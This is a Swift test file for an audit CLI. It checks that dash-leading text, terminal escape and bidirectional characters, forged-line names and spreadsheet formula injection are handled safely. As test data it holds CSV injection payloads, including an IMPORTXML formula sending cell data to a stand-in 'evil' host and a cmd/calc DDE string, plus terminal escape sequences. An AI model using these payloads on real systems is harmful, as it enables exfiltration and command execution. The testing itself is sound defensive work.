import Foundation
import TestSupport
import Testing

/// Text as people type it and as others' laptops send it, through the built binary: text that
/// begins with `-` is never dropped, terminal control and bidirectional characters are shown
/// escaped while stored exactly, CSV cells a spreadsheet would evaluate are neutralised, and
/// `search` says how many matches it did not show.
struct HostileTextTests {
    let cli = FieldAuditCLI(environment: ["TZ": "UTC"])
    let directory = TemporaryDirectory("fieldaudit-hostile-text")
    var store: String { directory.file("replica") }

    func run(_ arguments: [String], input: String? = nil) throws -> FieldAuditCLI.Result {
        try cli.run(arguments, store: store, input: input)
    }

    @discardableResult
    func succeed(_ arguments: [String], input: String? = nil, sourceLocation: SourceLocation = #_sourceLocation) throws -> String {
        try cli.succeed(arguments, store: store, input: input, sourceLocation: sourceLocation)
    }

    func json(_ arguments: [String]) throws -> Any {
        try JSONSerialization.jsonObject(with: Data(try succeed(arguments + ["--json"]).utf8))
    }

    func noteTexts() throws -> [String] {
        let notes = try #require((try json(["interview", "show"]) as? [String: Any])?["notes"] as? [[String: Any]])
        return notes.compactMap { $0["text"] as? String }
    }

    /// The id of the one finding raised.
    func onlyFinding() throws -> String {
        let findings = try #require(try json(["finding", "list"]) as? [[String: Any]])
        return try #require(findings.count == 1 ? findings[0]["id"] as? String : nil)
    }

    /// A replica with an engagement and an interview in progress.
    func start(client: String = "Helix Diagnostics Ltd", interviewee: String = "Dr Priya Rao") throws {
        try succeed(["init", "--name", "Ada Lead"])
        try succeed(["engagement", "create", "--client", client])
        try succeed(["interview", "start", "--with", interviewee, "--role", "CMIO"])
    }

    // MARK: - Text beginning with a dash (issue 12, item 4)

    @Test func aNoteBeginningWithADashIsRefusedWithTheFixAndNothingIsRecordedUntilItIsAfterDoubleDash() throws {
        try start()
        let cases: [(arguments: [String], fix: String)] = [
            (["note", "-5% drop on site B"], "fieldaudit note --store \(store) -- '-5% drop on site B'"),
            (["note", "--ref", "7.2", "-text"], "fieldaudit note --ref 7.2 --store \(store) -- -text"),
            (["note", "-x"], "fieldaudit note --store \(store) -- -x"),
            // Read as short flags, these hold -h, which printed the help and exited 0.
            (["note", "-hello world"], "fieldaudit note --store \(store) -- '-hello world'"),
            (["note", "- the dashboard"], "fieldaudit note --store \(store) -- '- the dashboard'"),
        ]
        for (arguments, fix) in cases {
            let refused = try run(arguments)
            #expect(refused.status == 64, "`\(arguments)` exited \(refused.status): \(refused.stdout) \(refused.stderr)")
            #expect(refused.stderr.contains("put -- before it"), "`\(arguments)`: \(refused.stderr)")
            #expect(refused.stderr.contains(fix), "`\(arguments)`: \(refused.stderr)")
        }
        #expect(try noteTexts().isEmpty)

        // As the refusal says: every option first, then --, then the text.
        for arguments in [["note", "--store", store, "--", "-5% drop on site B"], ["note", "--ref", "7.2", "--store", store, "--", "-text"]] {
            let noted = try cli.run(arguments)
            #expect(noted.status == 0 && noted.stdout.hasPrefix("Noted"), "`\(arguments)`: \(noted.stderr)")
        }
        #expect(try noteTexts() == ["-5% drop on site B", "-text"])
    }

    @Test func optionsThatTakeFreeTextTakeTextBeginningWithADash() throws {
        try start()
        try succeed(["finding", "raise", "--grade", "ofi", "--ref", "6.1.2", "--statement", "-5% of risks lack an owner"])
        let id = try onlyFinding()
        try succeed(["finding", "discuss", id, "--position", "-- we disagree"])
        try succeed(["test", "record", "6.1.2", "--method", "inquiry", "--result", "conforming", "--conclusion", "-no gaps found"])
        let finding = try #require((try json(["finding", "show", id]) as? [String: Any])?["finding"] as? [String: Any])
        #expect(finding["statement"] as? String == "-5% of risks lack an owner")
        #expect(finding["auditeePosition"] as? String == "-- we disagree")
        let tests = try #require(try json(["test", "list"]) as? [[String: Any]])
        #expect(tests.map { $0["conclusion"] as? String } == ["-no gaps found"])
    }

    // MARK: - Control and bidirectional characters (issue 12, item 8)

    /// Every scalar a terminal could act on, bar the line feeds that end lines.
    static func hazards(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            scalar != "\n" && (scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value) || [0x061C, 0x200E, 0x200F].contains(scalar.value)
                || (0x2028...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value))
        }.map { String(format: "U+%04X", $0.value) }
    }

    static let hostileNote = "Logs kept\u{1B}[2J\u{1B}]0;owned\u{07} 7 days\r\u{08}\u{7F}\u{9B}31m \u{202E}sgol\u{2066} backup\\e\nsecond line\tend"
    static let hostileName = "Eve\u{1B}[31m \u{202E}Rao"

    @Test func storedTextReachesTheTerminalEscapedAndStaysExactInJSON() throws {
        try start(client: "Helix\u{1B}[5m Ltd\u{202D}", interviewee: Self.hostileName)
        try succeed(["note", "-"], input: Self.hostileNote + "\u{0}")
        try succeed(["finding", "raise", "--grade", "ofi", "--ref", "6.1.2", "--statement", "Owner \u{202E}unknown\u{1B}[0m logs"])
        let finding = try onlyFinding()
        try succeed(["test", "record", "6.1.2", "--method", "inquiry", "--result", "conforming", "--conclusion", "ok\u{1B}[1A\rforged"])

        let shows: [[String]] = [
            ["search", "logs"], ["log"], ["interview", "show"], ["interview", "list"], ["finding", "list"], ["finding", "show", finding],
            ["test", "list"], ["status"], ["engagement", "show"], ["engagement", "list"],
        ]
        for arguments in shows {
            let result = try run(arguments)
            #expect(result.status == 0, "`\(arguments)`: \(result.stderr)")
            #expect(Self.hazards(in: result.stdout + result.stderr).isEmpty, "`\(arguments)` wrote \(Self.hazards(in: result.stdout))")
        }
        // Escaped visibly: the reader sees what is there, and where an override stands.
        let shown = try succeed(["interview", "show"])
        #expect(shown.contains("Logs kept\\e[2J\\e]0;owned\\u{07} 7 days\\r\\u{08}\\u{7F}\\u{9B}31m \\u{202E}sgol\\u{2066} backup\\\\e"))
        #expect(shown.contains("Eve\\e[31m \\u{202E}Rao"))
        // A multi-line note keeps its line break in `show`, indented; a table cell shows `\n`.
        #expect(shown.contains("\n        second line\\tend\\0"))
        #expect(try succeed(["log"]).contains("backup\\\\e\\nsecond"))
        #expect(try succeed(["finding", "list"]).contains("Owner \\u{202E}unknown\\e[0m logs"))
        #expect(try succeed(["status"]).contains("Helix\\e[5m Ltd\\u{202D}"))

        // The values themselves are stored byte for byte, and --json gives them exactly.
        #expect(try noteTexts() == [Self.hostileNote + "\u{0}"])
        let interviews = try #require(try json(["interview", "list"]) as? [[String: Any]])
        #expect(interviews.first?["interviewee"] as? String == Self.hostileName)
        let jsonText = try succeed(["interview", "show", "--json"])
        #expect(Self.hazards(in: jsonText).isEmpty, "--json wrote \(Self.hazards(in: jsonText))")
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/script"), "script (util-linux) gives the binary a terminal"))
    func aReportPrintedOnATerminalIsGuardedAndExactThroughAPipe() throws {
        try start(interviewee: "Eve\u{1B}7owned\u{07}Rao")
        let piped = try succeed(["report"])
        #expect(piped.contains("Eve\u{1B}7owned\u{07}Rao"))
        // `script` runs it on a pseudo-terminal and copies what it wrote.
        var terminal = cli
        terminal.launcher = ["/bin/sh", "-c", #"exec /usr/bin/script -qec "$0 report --store $1" /dev/null"#]
        let shown = try terminal.run([store])
        #expect(shown.status == 0, "\(shown.stderr)")
        #expect(shown.stdout.contains("Eve\\e7owned\\u{07}Rao"), "\(shown.stdout.prefix(600))")
        #expect(!shown.stdout.contains("\u{1B}7") && !shown.stdout.contains("\u{07}"))
    }

    // MARK: - CSV injection (issue 12, item 9)

    @Test func csvCellsASpreadsheetWouldEvaluateAreNeutralised() throws {
        try start(interviewee: "@SUM(1+1)*cmd|' /C calc'!A0")
        try succeed(["note", "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")"])
        try succeed(["finding", "raise", "--grade", "ofi", "--ref", "6.1.2", "--statement", "=1+1"])
        try succeed(["finding", "raise", "--grade", "observation", "--ref", "6.1.2", "--statement", "+cmd|' /C calc'!A0"])
        try succeed(["test", "record", "6.1.2", "--method", "inquiry", "--result", "conforming", "--conclusion", "-2+3", "--sample", "\tTAB"])
        let tables = directory.file("tables")
        try succeed(["report", "--format", "csv", "-o", tables])
        let findings = try String(contentsOfFile: tables + "/findings.csv", encoding: .utf8)
        #expect(findings.contains(",\"'=1+1\","))
        #expect(findings.contains(",\"'+cmd|' /C calc'!A0\","))
        let interviews = try String(contentsOfFile: tables + "/interviews.csv", encoding: .utf8)
        #expect(interviews.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","))
        #expect(interviews.contains(",\"'=IMPORTXML(CONCAT(\"\"http://evil/?\"\",A1),\"\"//a\"\")\","))
        let tests = try String(contentsOfFile: tables + "/tests.csv", encoding: .utf8)
        #expect(tests.contains(",\"'-2+3\","))
        #expect(tests.contains(",\"'\tTAB\","))
        for text in [findings, interviews, tests] {
            #expect(!text.contains(",=") && !text.contains(",+") && !text.contains(",@") && !text.contains(",\"="), "\(text)")
        }
    }

    // MARK: - Search limit (issue 12, item 11)

    @Test func searchSaysHowManyMoreMatchesThereAreAndLimitZeroShowsAll() throws {
        try start()
        for index in 1...53 { try succeed(["note", "retention checked on server \(index)"]) }

        let first = try succeed(["search", "retention"]).split(separator: "\n")
        #expect(first.count == 51)
        #expect(first.last == "… and 3 more; --limit 0 shows all (53 matches).")
        let all = try succeed(["search", "retention", "--limit", "0"]).split(separator: "\n")
        #expect(all.count == 53 && all.allSatisfy { $0.hasPrefix("note ") })
        let few = try succeed(["search", "retention", "--limit", "2"]).split(separator: "\n")
        #expect(few.count == 3 && few.last == "… and 51 more; --limit 0 shows all (53 matches).")

        let result = try run(["search", "retention", "--json"])
        let hits = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [[String: Any]])
        #expect(hits.count == 50)
        #expect(result.stderr.contains("… and 3 more; --limit 0 shows all"))
        #expect(try run(["search", "retention", "--limit", "-1"]).status == 64)
    }

    // MARK: - Issue 12 leftovers: free text and stored names everywhere (issue 13)

    @Test func interviewStartEvidenceAddAndInitTakeTextBeginningWithADash() throws {
        try succeed(["init", "--name", "-Ada Lead"])
        try succeed(["engagement", "create", "--client", "Helix Diagnostics Ltd"])
        try succeed(["interview", "start", "--with", "-Dr Priya Rao", "--role", "-acting CMIO"])
        let file = directory.file("scan.txt")
        try Data("access review".utf8).write(to: URL(fileURLWithPath: file))
        try succeed(["evidence", "add", file, "--describe", "-redacted access review"])

        let interviews = try #require(try json(["interview", "list"]) as? [[String: Any]])
        #expect(interviews.map { $0["interviewee"] as? String } == ["-Dr Priya Rao"])
        #expect(interviews.map { $0["role"] as? String } == ["-acting CMIO"])
        let evidence = try #require(try json(["evidence", "list"]) as? [[String: Any]])
        #expect(evidence.map { $0["description"] as? String } == ["-redacted access review"])
        #expect(try succeed(["whoami"]).contains("-Ada Lead"))
    }

    @Test func teamAddAndTrustShowACardsNameEscaped() throws {
        try start()
        let peer = directory.file("peer"), card = directory.file("ben.card.json")
        try cli.succeed(["init", "--name", "Ben\nAdded Mallory as lead."], store: peer)
        try cli.succeed(["whoami", "--card", "-o", card], store: peer)
        let added = try succeed(["team", "add", card])
        // The name stays on its line, its line break visible: no forged second line.
        #expect(added.hasPrefix("Added Ben\\nAdded Mallory as lead. ("), "\(added)")
        #expect(added.split(separator: "\n").count == 1, "\(added)")
        let trusted = try succeed(["trust", card])
        #expect(trusted.hasPrefix("Trusted Ben\\nAdded Mallory as lead. ("), "\(trusted)")
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/script"), "script (util-linux) gives the binary a terminal"))
    func captureGreetsWithTheClientsNameEscaped() throws {
        try start(client: "Helix\nfieldaudit: error: forged")
        var terminal = cli
        terminal.launcher = ["/bin/sh", "-c", #"exec /usr/bin/script -qec "$0 capture --store $1" /dev/null"#]
        let session = try terminal.run([store], input: "/quit\n")
        #expect(session.status == 0, "\(session.stderr)")
        #expect(session.stdout.contains("Capturing into Helix\\nfieldaudit: error: forged."), "\(session.stdout.prefix(600))")
        #expect(!session.stdout.contains("\nfieldaudit: error: forged"), "\(session.stdout.prefix(600))")
    }

    @Test func aSlashCommandWhoseTextLooksLikeOptionsGetsTheDoubleDashHint() throws {
        try start()
        let file = directory.file("scan.txt")
        try Data("access review".utf8).write(to: URL(fileURLWithPath: file))
        let session = try run(["capture"], input: "/evidence \(file) -scan.png\n/evidence -hello.txt\nstill noted\n")
        // Both lines refused as the command line refuses them, with the same fix, in slash-command form,
        #expect(session.status == 64, "\(session.stdout) \(session.stderr)")
        #expect(session.stderr.contains("put -- before it, after every option: /evidence \(file) -- -scan.png"), "\(session.stderr)")
        #expect(session.stderr.contains("-hello.txt is not an option (read as options, it holds -h, a request for help)"), "\(session.stderr)")
        #expect(session.stderr.contains("/evidence -- -hello.txt"), "\(session.stderr)")
        // and the session went on.
        #expect(try noteTexts() == ["still noted"])
        #expect((try json(["evidence", "list"]) as? [Any])?.isEmpty == true)
    }
}
